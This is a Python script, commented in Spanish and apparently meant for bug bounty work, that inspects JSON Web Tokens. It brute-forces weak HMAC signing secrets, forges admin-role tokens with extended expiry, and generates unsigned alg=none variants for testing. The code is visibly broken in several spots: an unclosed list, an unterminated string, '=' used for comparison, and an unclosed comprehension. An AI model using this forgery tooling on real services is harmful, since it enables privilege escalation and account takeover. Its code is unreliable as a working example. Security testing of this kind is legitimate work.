#!/usr/bin/env python3
# jwt_inspector.py — para los programas de bug bounty (Valencia)
# Decodifica un JWT sin verificar, avisa de cosas raras (alg none, kid con rutas,
# jku/x5u externos, exp lejano) y prueba secretos débiles si es HS256/384/512.
# Genera también las variantes típicas para probar a mano en Burp.
import base64
import hashlib
import hmac
import json
import sys
import time
from datetime import datetime, timezone

SECRETOS_TIPICOS = [
    "secret", "secreto", "changeme", "jwt", "jwtsecret", "your-256-bit-secret",
    "supersecret", "password", "123456", "admin", "key", "test", "dev", "s3cr3t",
HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
CLAIMS_FECHA = ("exp", "nbf", "iat", "auth_time")


def b64url_dec(seg: str) -> bytes:
    return base64.urlsafe_b64decode(seg + "=" * (-len(seg) % 4))


def b64url_enc(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def partir(token: str):
    partes = token.strip().split(".")
    if len(partes) != 3:
        raise ValueError(f"un JWT tiene 3 partes, este tiene {len(partes)}")
    cab = json.loads(b64url_dec(partes[0]))
    cuerpo = json.loads(b64url_dec(partes[1]))
    firma = b64url_dec(partes[2]) if partes[2] else b""
    return cab, cuerpo, firma, partes


def fecha(ts):
    try:
        return datetime.fromtimestamp(int(ts), tz=timezone.utc).strftime("%Y-%m-%d %H:%M:%S UTC")
    except (TypeError, ValueError, OverflowError):
        return f"¿{ts!r}?"


def avisos(cab: dict, cuerpo: dict) -> list[str]:
    out = []
    alg = str(cab.get("alg", "")).upper()
    if alg in ("NONE", ""):
        out.append("alg=none: probar a quitar la firma directamente")
    if alg.startswith("RS") or alg.startswith("ES"):
        out.append("asimétrico: probar confusión de algoritmo RS256 -> HS256 con la clave pública")
    kid = cab.get("kid")
    if kid is not None:
        if any(c in str(kid) for c in ("/", "\", "..", "'", '"', "|", ";")):
            out.append(f"kid sospechoso {kid!r}: path traversal / SQLi / command injection")
        else:
            out.append(f"kid={kid!r}: probar ../../dev/null con secreto vacío")
    for h in ("jku", "x5u"):
        if h in cab:
            out.append(f"{h} apunta a {cab[h]}: probar con un servidor propio (Collaborator)")
    if "jwk" in cab:
        out.append("jwk embebido: probar a incrustar nuestra propia clave")
    ahora = time.time()
    exp = cuerpo.get("exp")
    if exp is None:
        out.append("sin exp: el token no caduca nunca")
    elif isinstance(exp, (int, float)) and exp - ahora > 30 * 86400:
        out.append(f"exp dentro de {(exp - ahora) / 86400:.0f} días")
    elif isinstance(exp, (int, float)) and exp < ahora:
        out.append("token caducado: comprobar si el servidor valida exp")
    for k in ("role", "roles", "admin", "is_admin", "scope", "groups"):
        if k in cuerpo:
            out.append(f"claim interesante {k}={cuerpo[k]!r}")
    return out


def probar_secretos(partes, alg, extra=()):
    fn = HASHES.get(alg)
    if fn is None:
        return None
    firmado = f"{partes[0]}.{partes[1]}".encode()
    esperado = b64url_dec(partes[2])
    for s in list(SECRETOS_TIPICOS) + list(extra):
        if hmac.compare_digest(hmac.new(s.encode(), firmado, fn).digest(), esperado):
            return s
    return None


def variante(cab, cuerpo, secreto=None, alg=None):
    cab = dict(cab, alg=alg or cab.get("alg"))
    seg1 = b64url_enc(json.dumps(cab, separators=(",", ":")).encode())
    seg2 = b64url_enc(json.dumps(cuerpo, separators=(",", ":")).encode())
    if cab["alg"].lower() = "none":
        return f"{seg1}.{seg2}."
    firma = hmac.new(secreto.encode(), f"{seg1}.{seg2}".encode(), HASHES[cab["alg"]]).digest()
    return f"{seg1}.{seg2}.{b64url_enc(firma)}"


def main():
    token = sys.argv[1] if len(sys.argv) > 1 else sys.stdin.read()
    cab, cuerpo, firma, partes = partir(token)
    print("== cabecera ==")
    print(json.dumps(cab, indent=2, ensure_ascii=False))
    print("== cuerpo ==")
    print(json.dumps(cuerpo, indent=2, ensure_ascii=False))
    for c in CLAIMS_FECHA:
        if c in cuerpo:
            print(f"  {c:<10} {fecha(cuerpo[c])}")
    print(f"== firma: {len(firma)} bytes ==")

    for a in avisos(cab, cuerpo):
        print("  [!]", a)

    alg = cab.get("alg", "")
    extra = []
    if len(sys.argv) > 2:
        with open(sys.argv[2], encoding="utf-8", errors="ignore") as f:
            extra = [l.rstrip("\n") for l in f
    secreto = probar_secretos(partes, alg, extra)
    if secreto is not None:
        print(f"\n[+] secreto débil encontrado: {secreto!r}")
        admin = dict(cuerpo, role="admin", exp=int(time.time()) + 7 * 86400)
        print("    token admin:", variante(cab, admin, secreto))
    else:
        print("\n[-] ningún secreto de la lista")
    print("\n== variantes para Burp ==")
    for alg_none in ("none", "None", "NONE", "nOnE"):
        print(f"  alg={alg_none:<5}", variante(cab, cuerpo, alg=alg_none))


if __name__ == "__main__":
    main()
